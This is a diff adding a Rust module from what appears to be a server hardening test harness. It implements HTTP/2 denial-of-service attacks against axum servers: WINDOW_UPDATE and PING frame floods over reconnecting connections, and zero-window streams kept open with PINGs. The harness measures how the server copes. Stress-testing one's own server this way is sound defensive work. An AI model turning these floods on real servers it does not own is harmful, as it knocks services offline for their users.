@@ -1,0 +1,205 @@
+//! The HTTP/2 attacks (on `axum`, `axum-tls`, and axum on tokio beside
+//! them): cheap frames that make a server work without making a request,
+//! and streams that never let a response through while the connection
+//! looks alive.
+//!
+//! - **Frame floods**: a few connections send nothing but 13-byte
+//!   WINDOW_UPDATE frames and never read, or PING frames whose answers
+//!   they read. The server has no request to time out; what is checked is
+//!   the well-behaved client beside them (its answered exchanges and p99).
+//!   Without a cooperative budget in the runtime, one flooded connection
+//!   task took a whole buffer ring of input in one poll while every other
+//!   connection waited.
+//! - **Zero window answering PINGs**: streams opened with an initial
+//!   window of 0 (no response byte may go), on connections that keep
+//!   sending PINGs, which the server answers. They must be closed at the
+//!   send timeout: a PING answer is not progress of a response.
+
+use std::io::{self, Read, Write};
+use std::net::SocketAddr;
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+
+use super::attack::{Ctx, Outcome};
+use super::held::Held;
+use super::target::{self, Conn, Target};
+
+/// The client preface and an empty SETTINGS frame.
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";
+
+/// An HTTP/2 frame.
+pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let mut f = (payload.len() as u32).to_be_bytes()[1..].to_vec();
+    f.extend([kind, flags]);
+    f.extend(stream.to_be_bytes());
+    f.extend(payload);
+    f
+}
+
+/// `GET path` as a HEADERS frame on `stream` (HPACK: `:method GET` and
+/// `:scheme http` indexed, `:path` and `:authority` literal), ending the
+/// stream.
+fn get(stream: u32, path: &str) -> Vec<u8> {
+    let block = [
+        &[0x82u8, 0x86, 0x44, path.len() as u8][..],
+        path.as_bytes(),
+        &[0x41, 9],
+        b"localhost",
+    ]
+    .concat();
+    frame(1, 0x5, stream, &block)
+}
+
+/// A connection that has sent the preface (over TLS with ALPN `h2`).
+fn h2_conn(cx: &Ctx) -> io::Result<Conn> {
+    connect_h2(cx.target, cx.addr, &h2_tls(cx))
+}
+
+/// The client's TLS settings with ALPN `h2`.
+fn h2_tls(cx: &Ctx) -> Arc<rustls::ClientConfig> {
+    let mut cfg = (**cx.tls).clone();
+    cfg.alpn_protocols = vec![b"h2".to_vec()];
+    Arc::new(cfg)
+}
+
+fn connect_h2(t: Target, addr: SocketAddr, tls: &Arc<rustls::ClientConfig>) -> io::Result<Conn> {
+    let mut c = target::connect(t, addr, tls, Duration::from_secs(2))?;
+    c.write_all(PREFACE)?;
+    Ok(c)
+}
+
+/// Flooding connections: 4; 1 in a debug build (`cargo test`), whose
+/// unoptimised harness and server would otherwise measure the debug build
+/// (with 4, the probe's p99 was 0.8-1.7 s there against 0.08-0.35 s in a
+/// release build). A debug build checks that the floods run and the 2 s
+/// wait budget; the p99 budget is held in release builds only.
+pub(super) fn flood_conns() -> usize {
+    if cfg!(debug_assertions) {
+        1
+    } else {
+        4
+    }
+}
+
+/// How long a flood lasts.
+fn flood_time(cx: &Ctx) -> Duration {
+    Duration::from_secs(if cx.short { 6 } else { 20 })
+}
+
+/// Frames of `one` sent back to back from 4 connections for the flood's
+/// time; with `read`, whatever the server answers is read between writes.
+/// A connection the server closes is made again (as an attacker would),
+/// so the well-behaved client is measured under the flood all along.
+pub(super) fn flood(cx: &Ctx, o: &mut Outcome, one: &[u8], read: bool) -> io::Result<()> {
+    let conns = flood_conns();
+    let chunk = one.repeat(16 * 1024 / one.len());
+    let until = Instant::now() + flood_time(cx);
+    let (t, addr, tls) = (cx.target, cx.addr, h2_tls(cx));
+    let mut threads = Vec::new();
+    for _ in 0..conns {
+        let mut c = connect_h2(t, addr, &tls)?;
+        let (chunk, tls) = (chunk.clone(), tls.clone());
+        threads.push(std::thread::spawn(move || {
+            let (mut sent, mut closed) = (0u64, 0u64);
+            let mut buf = vec![0u8; 64 * 1024];
+            while Instant::now() < until {
+                let _ = c.tcp().set_read_timeout(Some(Duration::from_millis(1)));
+                if write_then_read(&mut c, &chunk, read, &mut buf) {
+                    sent += chunk.len() as u64;
+                    continue;
+                }
+                closed += 1;
+                match connect_h2(t, addr, &tls) {
+                    Ok(n) => c = n,
+                    Err(_) => std::thread::sleep(Duration::from_millis(10)),
+                }
+            }
+            (sent, closed)
+        }));
+    }
+    let (mut bytes, mut closed) = (0, 0);
+    for t in threads {
+        let (b, c) = t.join().unwrap_or((0, 0));
+        bytes += b;
+        closed += c;
+    }
+    o.hostile = conns;
+    o.notes.push(format!(
+        "{} frames in {} s; the server closed a flooding connection {closed} times",
+        bytes / one.len() as u64,
+        flood_time(cx).as_secs()
+    ));
+    Ok(())
+}
+
+/// Write `chunk`, then (with `read`) read what is there; false once the
+/// connection is gone.
+fn write_then_read(c: &mut Conn, chunk: &[u8], read: bool, buf: &mut [u8]) -> bool {
+    if c.write_all(chunk).is_err() {
+        return false;
+    }
+    if !read {
+        return true;
+    }
+    loop {
+        match c.read(buf) {
+            Ok(0) => return false,
+            Ok(_) => {}
+            Err(e)
+                if matches!(
+                    e.kind(),
+                    io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut
+                ) =>
+            {
+                return true
+            }
+            Err(_) => return false,
+        }
+    }
+}
+
+/// Streams with no window on connections that keep sending PINGs; they
+/// must be closed within the send timeout + slack.
+pub(super) fn zero_window(cx: &Ctx, o: &mut Outcome, budget: f64) -> io::Result<()> {
+    let n = cx.n(20, 8);
+    let mut held = Held::new();
+    for _ in 0..n {
+        let mut c = h2_conn(cx)?;
+        // SETTINGS_INITIAL_WINDOW_SIZE = 0, then a request for 16 KiB.
+        c.write_all(&frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]))?;
+        c.write_all(&get(1, "/bytes/16384"))?;
+        held.push(c);
+    }
+    held.restart_clock();
+    let ping = frame(6, 0, 0, b"answerme");
+    let end = Instant::now() + Duration::from_secs_f64(budget + 1.0);
+    while Instant::now() < end {
+        for c in held.conns_mut() {
+            let _ = c.tcp().set_write_timeout(Some(Duration::from_millis(100)));
+            let _ = c.write_all(&ping);
+        }
+        held.check();
+        if held.closed() == held.len() {
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(300));
+    }
+    o.hostile = held.len();
+    o.close_budget = Some(budget);
+    o.closed = held.closed();
+    o.all_closed_after = held.all_closed_after();
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn frames_are_laid_out_as_rfc_9113_says() {
+        let f = frame(8, 0, 0, &1u32.to_be_bytes());
+        assert_eq!(f, [0, 0, 4, 8, 0, 0, 0, 0, 0, 0, 0, 0, 1]);
+        let g = get(1, "/x");
+        assert_eq!(&g[..9], &[0, 0, 17, 1, 5, 0, 0, 0, 1]);
+    }
+}
